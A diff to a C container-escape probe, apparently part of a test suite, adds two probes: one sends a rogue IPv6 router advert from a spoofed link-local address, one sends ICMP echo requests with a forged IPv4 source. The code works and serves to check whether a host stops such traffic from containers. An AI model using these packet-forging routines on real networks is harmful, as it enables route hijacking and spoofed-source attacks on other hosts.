@@ -13,19 +13,27 @@
  * rejects), a disk is only read (512 bytes), a cgroup hierarchy is only
  * mounted, looked at and unmounted, a BPF map is created and closed, a
  * keyring joined is the probe's own, text pushed into the terminal with
- * TIOCSTI is a shell comment, and a process that clears its parent-death
- * signal only sleeps.
+ * TIOCSTI is a shell comment, a process that clears its parent-death
+ * signal only sleeps, and a router advert (for a documentation prefix) or
+ * an echo request with a forged source goes only to the container's own
+ * veth peer.
  *
  * Where the kernel checks a capability before the call does anything, its
  * EPERM and the seccomp filter's look the same; tests/escapes.bats tells
  * them apart by running with --seccomp unconfined or --cap-add.
  */
 #define _GNU_SOURCE
+#include <arpa/inet.h>
 #include <errno.h>
 #include <fcntl.h>
 #include <linux/bpf.h>
 #include <linux/keyctl.h>
 #include <mqueue.h>
+#include <net/if.h>
+#include <netinet/icmp6.h>
+#include <netinet/in.h>
+#include <netinet/ip.h>
+#include <netinet/ip_icmp.h>
 #include <sched.h>
 #include <stdarg.h>
 #include <stdio.h>
@@ -35,6 +43,7 @@
 #include <sys/mount.h>
 #include <sys/shm.h>
 #include <sys/prctl.h>
+#include <sys/socket.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
 #include <sys/sysmacros.h>
@@ -624,6 +633,137 @@ orphan(char **arguments, int count, struct result *result)
 	return say(result, ESCAPED, "ran %u s with PR_SET_PDEATHSIG cleared", seconds);
 }
 
+/* --- the host end of the veth: router adverts, forged sources ----------- */
+
+/* The container can always send these (CAP_NET_RAW is in Docker's set):
+ * what stops them is the host end, which the probe cannot see, so ESCAPED
+ * says only that they went out, and the test looks at the host. */
+
+/* An IPv6 router advert (RFC 4861) to all nodes of INTERFACE's link, from
+ * fe80::47, for 2001:db8:47::/64 (a documentation prefix, RFC 3849) with
+ * the autonomous flag: a peer that accepts adverts gives itself an address
+ * in it, and a default route through fe80::47, for ten minutes. Any
+ * link-local source will do, and IPV6_FREEBIND lets the probe use one it
+ * does not have, rather than wait for its own to pass duplicate address
+ * detection. */
+static enum outcome
+router_advert(char **arguments, int count, struct result *result)
+{
+	struct {
+		struct nd_router_advert advert;
+		struct nd_opt_prefix_info prefix;
+	} packet;
+	unsigned index = if_nametoindex(arguments[0]);
+	struct sockaddr_in6 router = { .sin6_family = AF_INET6, .sin6_scope_id = index };
+	struct sockaddr_in6 all_nodes = router;
+	int on = 1, hops = 255; /* a receiver drops adverts that crossed a router */
+
+	(void)count;
+	if (index == 0)
+		return failed(result, "if_nametoindex");
+	memset(&packet, 0, sizeof(packet));
+	packet.advert.nd_ra_type = ND_ROUTER_ADVERT;
+	packet.advert.nd_ra_curhoplimit = 64;
+	packet.advert.nd_ra_router_lifetime = htons(600);
+	packet.prefix.nd_opt_pi_type = ND_OPT_PREFIX_INFORMATION;
+	packet.prefix.nd_opt_pi_len = sizeof(packet.prefix) / 8;
+	packet.prefix.nd_opt_pi_prefix_len = 64;
+	packet.prefix.nd_opt_pi_flags_reserved = ND_OPT_PI_FLAG_ONLINK | ND_OPT_PI_FLAG_AUTO;
+	packet.prefix.nd_opt_pi_valid_time = htonl(600);
+	packet.prefix.nd_opt_pi_preferred_time = htonl(600);
+	inet_pton(AF_INET6, "2001:db8:47::", &packet.prefix.nd_opt_pi_prefix);
+	inet_pton(AF_INET6, "fe80::47", &router.sin6_addr);
+	inet_pton(AF_INET6, "ff02::1", &all_nodes.sin6_addr);
+	/* ICMPv6 raw sockets fill in the checksum themselves (raw(7)). */
+	int fd = socket(AF_INET6, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_ICMPV6);
+	if (fd == -1)
+		return failed(result, "socket(AF_INET6, SOCK_RAW, IPPROTO_ICMPV6)");
+	enum outcome outcome = ESCAPED;
+	if (setsockopt(fd, IPPROTO_IPV6, IPV6_MULTICAST_HOPS, &hops, sizeof(hops)) == -1)
+		outcome = failed(result, "setsockopt(IPV6_MULTICAST_HOPS)");
+	else if (setsockopt(fd, IPPROTO_IPV6, IPV6_FREEBIND, &on, sizeof(on)) == -1)
+		outcome = failed(result, "setsockopt(IPV6_FREEBIND)");
+	else if (bind(fd, (struct sockaddr *)&router, sizeof(router)) == -1)
+		outcome = failed(result, "bind(fe80::47)");
+	/* A link just brought up has its multicast route only once the
+	 * kernel's link watch work has seen it running: ENETUNREACH until
+	 * then, for a moment. Up to 2 s. */
+	for (int tries = 1; outcome == ESCAPED; tries++) {
+		if (sendto(fd, &packet, sizeof(packet), 0, (struct sockaddr *)&all_nodes,
+			   sizeof(all_nodes)) != -1)
+			break;
+		if (errno != ENETUNREACH || tries == 20)
+			outcome = failed(result, "sendto(ff02::1)");
+		else
+			usleep(100000);
+	}
+	close(fd);
+	if (outcome == ESCAPED)
+		say(result, ESCAPED, "sent a router advert for 2001:db8:47::/64 from fe80::47 out of %s",
+		    arguments[0]);
+	return outcome;
+}
+
+/* RFC 1071: the ones' complement of the ones' complement sum of 16-bit words. */
+static uint16_t
+internet_checksum(const void *data, size_t length)
+{
+	const uint8_t *bytes = data;
+	uint32_t sum = 0;
+
+	for (size_t i = 0; i + 1 < length; i += 2)
+		sum += (uint32_t)(bytes[i] << 8 | bytes[i + 1]);
+	if (length % 2)
+		sum += (uint32_t)(bytes[length - 1] << 8);
+	while (sum >> 16)
+		sum = (sum & 0xffff) + (sum >> 16);
+	return htons((uint16_t)~sum);
+}
+
+/* Three ICMP echo requests to DESTINATION in an IPv4 header the probe
+ * writes itself (IPPROTO_RAW implies IP_HDRINCL, raw(7)), naming SOURCE as
+ * the sender: whoever answers sends the echo replies to SOURCE. */
+static enum outcome
+forged_source(char **arguments, int count, struct result *result)
+{
+	struct {
+		struct iphdr ip;
+		struct icmphdr icmp;
+	} packet;
+	struct sockaddr_in destination = { .sin_family = AF_INET };
+
+	(void)count;
+	memset(&packet, 0, sizeof(packet));
+	if (inet_pton(AF_INET, arguments[0], &packet.ip.saddr) != 1 ||
+	    inet_pton(AF_INET, arguments[1], &destination.sin_addr) != 1)
+		return say(result, BLOCKED, "%s %s: not two IPv4 addresses", arguments[0], arguments[1]);
+	/* The kernel fills in the total length and the header checksum. */
+	packet.ip.version = 4;
+	packet.ip.ihl = sizeof(packet.ip) / 4;
+	packet.ip.ttl = 64;
+	packet.ip.protocol = IPPROTO_ICMP;
+	packet.ip.daddr = destination.sin_addr.s_addr;
+	packet.icmp.type = ICMP_ECHO;
+	packet.icmp.un.echo.id = htons((uint16_t)getpid());
+	int fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
+	if (fd == -1)
+		return failed(result, "socket(AF_INET, SOCK_RAW, IPPROTO_RAW)");
+	for (uint16_t sequence = 1; sequence <= 3; sequence++) {
+		packet.icmp.un.echo.sequence = htons(sequence);
+		packet.icmp.checksum = 0;
+		packet.icmp.checksum = internet_checksum(&packet.icmp, sizeof(packet.icmp));
+		if (sendto(fd, &packet, sizeof(packet), 0, (struct sockaddr *)&destination,
+			   sizeof(destination)) == -1) {
+			enum outcome outcome = failed(result, "sendto");
+			close(fd);
+			return outcome;
+		}
+	}
+	close(fd);
+	return say(result, ESCAPED, "sent 3 echo requests to %s from the forged source %s",
+		   arguments[1], arguments[0]);
+}
+
 static const struct escape escapes[] = {
 	{ "shocker", "[PATH]", 0, shocker },
 	{ "sysrq-trigger", "", 0, sysrq_trigger },
@@ -648,6 +788,8 @@ static const struct escape escapes[] = {
 	{ "stdio-reopen", "", 0, stdio_reopen },
 	{ "terminal-takeover", "", 0, terminal_takeover },
 	{ "orphan", "[SECONDS]", 0, orphan },
+	{ "router-advert", "INTERFACE", 1, router_advert },
+	{ "forged-source", "SOURCE DESTINATION", 2, forged_source },
 };
 
 static int
